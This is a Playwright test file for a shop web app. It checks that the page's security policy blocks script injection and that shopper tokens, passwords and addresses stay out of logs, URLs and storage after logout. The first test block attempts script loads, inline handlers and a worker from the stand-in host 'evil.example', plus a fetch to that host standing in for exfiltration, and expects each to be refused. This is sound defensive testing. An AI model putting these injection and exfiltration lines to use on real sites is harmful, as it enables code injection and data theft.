import type { Page } from '@playwright/test';

import { expect, test } from './base';
import { ADDRESS, answer, bagProduct, dialog, expectSignedIn, logOut, PASSWORD } from './shopper';
import { atTheTill, pressCheckout, thankedAndDone } from './till';

test.describe('text does not become code', () => {
  test.use({
    expectedErrors: /^Forbidden by the policy|requires 'Trusted|violates the /,
  });

  /** Tries each way of a page-writing attacker inside the page; what came of it. */
  const attempts = (page: Page) =>
    page.evaluate(() => {
      const refused = (attempt: () => unknown) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      const script = document.createElement('script');
      const ran = (text: string) => {
        const inline = document.createElement('script');
        inline.append(text);
        document.head.append(inline);
      };
      ran('window.wasRun = "inline"');
      return {
        html: refused(() => (document.createElement('div').innerHTML = '<img>')),
        foreignScript: refused(() => (script.src = 'https://evil.example/x.js')),
        dataScript: refused(() => (script.src = 'data:text/javascript,window.wasRun=1')),
        scriptText: refused(() => (script.textContent = 'window.wasRun = "text"')),
        handler: refused(() => document.body.setAttribute('onclick', 'window.wasRun = "click"')),
        timer: refused(() => Reflect.apply(setTimeout, window, ['window.wasRun = "timer"'])),
        worker: refused(() => new Worker('https://evil.example/w.js')),
        ownScript: refused(() => (script.src = '/assets/own.js')),
        data: refused(() => (script.textContent = '{"@context":"https://schema.org"}')),
        ran: Reflect.get(window, 'wasRun') ?? 'nothing',
      };
    });

  test('in no way that a page knows', async ({ page }) => {
    await page.goto('/');
    await expect(page.getByRole('article').first()).toBeVisible();
    expect(await attempts(page)).toEqual({
      ...{ html: 'TypeError', foreignScript: 'TypeError', dataScript: 'TypeError' },
      ...{ scriptText: 'TypeError', handler: 'TypeError', timer: 'TypeError', worker: 'TypeError' },
      ...{ ownScript: 'done', data: 'done', ran: 'nothing' },
    });
  });

  test('and nothing is told to a host that is not the shop’s', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto('/');
    const told = await page.evaluate(() =>
      fetch('https://evil.example/?what', { mode: 'no-cors' }).then(
        () => 'told',
        () => 'refused',
      ),
    );
    expect(told).toBe('refused');
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  });
});

/** Everything that this browser keeps for the shop, as one text. */
function keptIn(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const kept: unknown[] = [
      Object.entries(localStorage),
      Object.entries(sessionStorage),
      document.cookie,
    ];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const { url } of await cache.keys()) {
        kept.push(url, await (await cache.match(url))?.text());
      }
    }
    const finished = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(new Error('unread'));
      });
    for (const { name } of await indexedDB.databases()) {
      const db = await finished(indexedDB.open(name!));
      for (const store of db.objectStoreNames) {
        kept.push(await finished(db.transaction(store).objectStore(store).getAll()));
      }
      db.close();
    }
    return JSON.stringify(kept);
  });
}

test.describe('what is a shopper’s own', () => {
  test.skip(
    ({ onHosts }) => !onHosts,
    'the demo’s hosts are in the browser, and keep what hosts do',
  );
  test.use({ expectedErrors: /Failed to load resource|Error fetching orders:/ });

  test('is in no log, no URL and no cache, and leaves with them', async ({
    page,
    t,
    context,
  }, testInfo) => {
    const said: string[] = [];
    const urls: string[] = [];
    context.on('console', (message) => said.push(message.text()));
    context.on('request', (request) => urls.push(decodeURIComponent(request.url())));

    await atTheTill(page, t, testInfo, 'prada-sandals-4');
    await pressCheckout(page, t);
    await answer(page, t('checkout.confirm'), t('action.ok'));
    await thankedAndDone(page, t);
    await page.goto('/order');
    const order = page.getByRole('main').getByRole('link', { name: /^ZN\d+$/ });
    const orderNumber = await order.innerText();
    // What fails is what gets logged.
    await page.route('**/myyOrder?**', (route) => route.fulfill({ status: 400, json: {} }));
    await page.goto(`/order/${orderNumber}`);
    await expect(page.getByRole('alert')).toBeVisible();
    // What is half done is what could be left behind.
    await bagProduct(page, t, 'prada-sandals-3');
    await page.goto('/cart');
    await expectSignedIn(page, t);
    await page.getByRole('button', { name: t('cart.selectAddress') }).click();
    const choice = dialog(page, t('cart.selectAddress'));
    await choice.getByRole('radio').first().check();
    await choice.getByRole('button', { name: t('action.ok') }).click();
    await expect(page.getByRole('main').getByText(ADDRESS.recipient)).toBeVisible();
    await page.goto('/account');
    const email = await page.getByText(/@shopper\.example/).innerText();
    const signedIn = await keptIn(page);
    const token = /"accessToken":"([^"]+)"/.exec(signedIn)?.[1];
    expect(signedIn).toContain(email);
    expect(token).toBeTruthy();

    const secrets = [token!, PASSWORD, email, ...Object.values(ADDRESS)];
    const holding = (texts: string[]) =>
      secrets.filter((secret) => texts.some((text) => text.includes(secret)));
    expect(said.join('\n')).toMatch(/Error fetching orders:/);
    expect(holding(said), 'in the console').toEqual([]);
    expect(said.join('\n')).not.toContain(orderNumber);
    expect(holding(urls), 'in URLs').toEqual([]);

    await logOut(page, t);
    const left = await keptIn(page);
    expect(holding([left]), 'left behind').toEqual([]);
    expect(left).not.toContain(orderNumber);
  });
});
